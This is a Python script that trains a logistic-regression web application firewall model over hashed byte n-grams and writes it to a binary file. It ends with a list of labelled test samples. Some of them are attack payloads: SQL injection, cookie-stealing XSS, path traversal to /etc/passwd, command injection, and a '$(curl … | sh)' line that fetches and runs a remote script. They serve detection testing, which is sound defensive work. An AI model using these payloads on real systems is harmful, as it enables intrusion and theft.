#!/usr/bin/env python3
"""Train the WAF model and write `crates/waf/model/model.bin`.

The model is a logistic regression over hashed byte n-grams of a request value. Features, in the
order `crates/waf/src/model.rs` computes them:

1. The value's UTF-8 bytes, and its percent-decoded bytes when decoding changes them, are each
   folded: ASCII letters to lower case and ASCII digits to `0`, then framed by 0x02 and 0x03.
2. Every n-gram of 1 to `MAX_N` bytes of each folded text is hashed with 32-bit FNV-1a, and the
   hash modulo `BUCKETS` is its bucket.
3. The distinct buckets are the features, each with the value 1/sqrt(number of distinct buckets).

The score is `bias + scale * sum(weights[bucket]) / sqrt(count)` with integer weights, and the
probability is the logistic function of the score. Because the weights are integers, Python and
Rust compute the same sum exactly.

Training reads `train.jsonl` from `corpus.py`. Threshold selection holds out a fifth of the
training sources as a validation split and trains on the rest. The threshold is the lowest
probability whose false-positive rate on the validation benign values is at most `TARGET_FPR`,
and the confirmation threshold the lowest with at most `CONFIRM_FPR`. The final model is then
trained on the whole training split. The test split is never read here.

Every step is deterministic (fixed seeds, sequential sums), so the same corpus gives the same
file byte for byte with the same numpy version.
"""

import argparse
import hashlib
import json
import math
import struct
import sys
from pathlib import Path

import numpy as np

MODEL_DIR = Path(__file__).resolve().parent
REPO = MODEL_DIR.parents[2]

MAGIC = b"PCWAFM02"
BUCKETS = 1 << 18
MAX_N = 5
FNV_OFFSET = 0x811C9DC5
FNV_PRIME = 0x01000193
START, END = 0x02, 0x03

EPOCHS = 6
BATCH = 1024
LEARNING_RATE = 0.02
L2 = 1e-7
# Benign values count this many times more than attack values in the loss, after both classes
# are weighted to the same total.
BENIGN_WEIGHT = 4.0
TARGET_FPR = 0.0003
# False-positive rate on validation benign values of the confirmation threshold, the lower
# threshold a value that a built-in rule matched must reach for the match to count.
CONFIRM_FPR = 0.01
SEED = 7


def percent_decode(data):
    out = bytearray()
    i = 0
    while i < len(data):
        byte = data[i]
        if byte == 0x25 and i + 2 < len(data) and is_hex(data[i + 1]) and is_hex(data[i + 2]):
            out.append(int(data[i + 1 : i + 3], 16))
            i += 3
        else:
            out.append(byte)
            i += 1
    return bytes(out)


def is_hex(byte):
    return byte in b"0123456789abcdefABCDEF"


def fold(byte):
    """Map an ASCII digit to `0` and an ASCII capital letter to lower case."""
    if 0x30 <= byte <= 0x39:
        return 0x30
    if 0x41 <= byte <= 0x5A:
        return byte + 32
    return byte


FOLD = bytes(fold(byte) for byte in range(256))


def texts_of(value):
    raw = value.encode("utf-8")
    texts = [raw]
    decoded = percent_decode(raw)
    if decoded != raw:
        texts.append(decoded)
    return [bytes([START]) + text.translate(FOLD) + bytes([END]) for text in texts]


def featurize(values):
    """Return (row_ids, buckets) of the distinct buckets of every value, sorted by row and bucket."""
    chunks = []
    owners = []
    for row, value in enumerate(values):
        for text in texts_of(value):
            chunks.append(text)
            owners.append(row)
    lengths = np.array([len(chunk) for chunk in chunks])
    data = np.frombuffer(b"".join(chunks), dtype=np.uint8).astype(np.uint32)
    owner = np.repeat(np.array(owners, dtype=np.int64), lengths)
    # An n-gram must stay inside one text.
    text_id = np.repeat(np.arange(len(chunks)), lengths)
    keys = []
    hashes = np.full(len(data), FNV_OFFSET, dtype=np.uint32)
    for k in range(MAX_N):
        count = len(data) - k
        if count <= 0:
            break
        hashes = hashes[:count]
        hashes = (hashes ^ data[k : k + count]) * np.uint32(FNV_PRIME)
        inside = text_id[k : k + count] == text_id[:count]
        rows = owner[:count][inside]
        buckets = (hashes[inside] % BUCKETS).astype(np.int64)
        keys.append(rows * BUCKETS + buckets)
    unique = np.unique(np.concatenate(keys))
    return unique // BUCKETS, unique % BUCKETS


class Features:
    """Sparse rows of the distinct buckets, with the normalising value of each row."""

    def __init__(self, values):
        self.rows, self.buckets = featurize(values)
        self.count = len(values)
        counts = np.bincount(self.rows, minlength=self.count)
        self.norm = 1.0 / np.sqrt(np.maximum(counts, 1))
        self.starts = np.concatenate(([0], np.cumsum(counts)))

    def batch(self, indices):
        """Return (local_rows, buckets) of the rows in `indices`."""
        parts_rows = []
        parts_buckets = []
        for local, row in enumerate(indices):
            start, end = self.starts[row], self.starts[row + 1]
            parts_rows.append(np.full(end - start, local, dtype=np.int64))
            parts_buckets.append(self.buckets[start:end])
        return np.concatenate(parts_rows), np.concatenate(parts_buckets)

    def margins(self, weights, bias):
        sums = np.bincount(self.rows, weights=weights[self.buckets], minlength=self.count)
        return bias + sums * self.norm


def sigmoid(margins):
    return np.array([1.0 / (1.0 + math.exp(-m)) if m > -700 else 0.0 for m in margins])


def train(features, labels):
    """Fit weights and bias with Adam on minibatches in a seeded order."""
    rng = np.random.default_rng(SEED)
    positives = labels.sum()
    negatives = len(labels) - positives
    sample_weight = np.where(
        labels == 1, len(labels) / (2 * positives), BENIGN_WEIGHT * len(labels) / (2 * negatives)
    )

    weights = np.zeros(BUCKETS)
    bias = 0.0
    moment = np.zeros(BUCKETS)
    velocity = np.zeros(BUCKETS)
    bias_moment = bias_velocity = 0.0
    beta1, beta2, epsilon = 0.9, 0.999, 1e-8
    step = 0

    for epoch in range(EPOCHS):
        order = rng.permutation(len(labels))
        for start in range(0, len(order), BATCH):
            indices = order[start : start + BATCH]
            local_rows, buckets = features.batch(indices)
            norm = features.norm[indices]
            margins = bias + np.bincount(
                local_rows, weights=weights[buckets], minlength=len(indices)
            ) * norm
            errors = (sigmoid(margins) - labels[indices]) * sample_weight[indices] / len(indices)
            gradient = np.bincount(
                buckets, weights=(errors * norm)[local_rows], minlength=BUCKETS
            )
            gradient += L2 * weights
            bias_gradient = errors.sum()

            step += 1
            moment = beta1 * moment + (1 - beta1) * gradient
            velocity = beta2 * velocity + (1 - beta2) * gradient * gradient
            correction = math.sqrt(1 - beta2**step) / (1 - beta1**step)
            weights -= LEARNING_RATE * correction * moment / (np.sqrt(velocity) + epsilon)
            bias_moment = beta1 * bias_moment + (1 - beta1) * bias_gradient
            bias_velocity = beta2 * bias_velocity + (1 - beta2) * bias_gradient**2
            bias -= LEARNING_RATE * correction * bias_moment / (math.sqrt(bias_velocity) + epsilon)
        print(f"epoch {epoch + 1}/{EPOCHS} done", file=sys.stderr)
    return weights, bias


class Model:
    """Integer weights with one scale, the form `model.bin` stores."""

    def __init__(self, weights, bias):
        self.scale = float(np.abs(weights).max()) / 32767.0
        self.weights = np.round(weights / self.scale).astype(np.int16)
        self.bias = float(bias)
        self.threshold = 0.5
        self.confirm_threshold = 0.5

    def margins(self, features):
        sums = np.bincount(
            features.rows, weights=self.weights[features.buckets].astype(np.int64),
            minlength=features.count,
        )
        # Exact integer sums, as in the Rust inference.
        return self.bias + self.scale * sums * features.norm

    def probabilities(self, features):
        return sigmoid(self.margins(features))

    @classmethod
    def from_bytes(cls, data):
        if data[:8] != MAGIC:
            raise ValueError("not a PCWAFM02 model file")
        buckets, _, scale, bias, threshold, confirm_threshold = struct.unpack("<IIdddd", data[8:48])
        model = cls.__new__(cls)
        model.scale, model.bias = scale, bias
        model.threshold, model.confirm_threshold = threshold, confirm_threshold
        model.weights = np.frombuffer(data[48:], dtype="<i2").astype(np.int16)
        if len(model.weights) != buckets:
            raise ValueError(f"{len(model.weights)} weights for {buckets} buckets")
        return model

    def to_bytes(self):
        header = MAGIC + struct.pack(
            "<IIdddd", BUCKETS, MAX_N, self.scale, self.bias, self.threshold, self.confirm_threshold
        )
        return header + self.weights.astype("<i2").tobytes()


def choose_threshold(probabilities, labels, rate):
    """Return the lowest threshold with a benign false-positive rate of at most `rate`."""
    benign = np.sort(probabilities[labels == 0])[::-1]
    allowed = int(math.floor(rate * len(benign)))
    # Values scoring at or above the threshold are attacks, so the threshold sits just above the
    # benign score ranked `allowed` (0-based) from the top.
    return float(np.nextafter(benign[allowed], 1.0))


def load(path):
    values, labels, sources = [], [], []
    with open(path, encoding="utf-8") as file:
        for line in file:
            item = json.loads(line)
            values.append(item["value"])
            labels.append(item["label"])
            sources.append(item["source"])
    return values, np.array(labels, dtype=np.float64), sources


def validation_mask(sources):
    def held(source):
        digest = hashlib.sha256(f"validation:{source}".encode()).digest()
        return digest[0] % 5 == 0

    return np.array([held(source) for source in sources])


def subset(values, mask):
    return [value for value, keep in zip(values, mask) if keep]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--corpus", type=Path, default=REPO / "target" / "waf-model",
                        help="directory with train.jsonl from corpus.py (default: target/waf-model)")
    parser.add_argument("--out", type=Path, default=MODEL_DIR / "model.bin")
    parser.add_argument("--samples", action="store_true",
                        help="only rewrite samples.tsv from the existing model file")
    args = parser.parse_args()
    if args.samples:
        write_samples(Model.from_bytes(args.out.read_bytes()), MODEL_DIR / "samples.tsv")
        return

    values, labels, sources = load(args.corpus / "train.jsonl")
    held = validation_mask(sources)
    print(f"training on {len(values)} values, {int(held.sum())} held out for the threshold",
          file=sys.stderr)

    fit = Features(subset(values, ~held))
    weights, bias = train(fit, labels[~held])
    validation = Features(subset(values, held))
    probabilities = Model(weights, bias).probabilities(validation)
    threshold = choose_threshold(probabilities, labels[held], TARGET_FPR)
    confirm_threshold = choose_threshold(probabilities, labels[held], CONFIRM_FPR)
    print(f"threshold {threshold:.6f}, confirmation threshold {confirm_threshold:.6f}",
          file=sys.stderr)

    everything = Features(values)
    weights, bias = train(everything, labels)
    model = Model(weights, bias)
    model.threshold = threshold
    model.confirm_threshold = confirm_threshold
    args.out.write_bytes(model.to_bytes())
    write_samples(model, MODEL_DIR / "samples.tsv")
    print(f"wrote {args.out}", file=sys.stderr)


# Values whose probabilities samples.tsv records, with the expected label: 1 for an attack the
# model must score at or above its threshold, 0 for a benign value it must score below it.
SAMPLES = [
    (1, "1' OR '1'='1"),
    (1, "1 UNION SELECT username, password FROM users--"),
    (1, "<script>alert(document.cookie)</script>"),
    (1, "<img src=x onerror=alert(1)>"),
    (1, "../../../../etc/passwd"),
    (1, "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    (1, "; cat /etc/passwd"),
    (1, "$(curl http://198.51.100.7/x.sh | sh)"),
    (0, "O'Brien"),
    (0, "It's a \"great\" day, isn't it? Let's meet at Joe's."),
    (0, "Please select a plan from the menu and update your profile."),
    (0, "alice.o'hara@example.com"),
    (0, "https://example.com/search?q=rust+async&page=2#results"),
    (0, "{\"nested\": [1, 2, {\"key\": \"value\"}]}"),
    (0, "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NCBlbmNvZGVkIHRleHQu"),
    (0, "2024-01-01T10:00:00Z"),
    (0, "Grüße aus Köln"),
    (0, ""),
]


def write_samples(model, path):
    """Write the label and probability of each sample, which the Rust tests check."""
    probabilities = model.probabilities(Features([value for _, value in SAMPLES]))
    lines = ["# label\tvalue (JSON string)\tprobability from train.py\n"]
    for (label, value), probability in zip(SAMPLES, probabilities):
        lines.append(f"{label}\t{json.dumps(value)}\t{probability:.12f}\n")
    path.write_text("".join(lines))


if __name__ == "__main__":
    main()
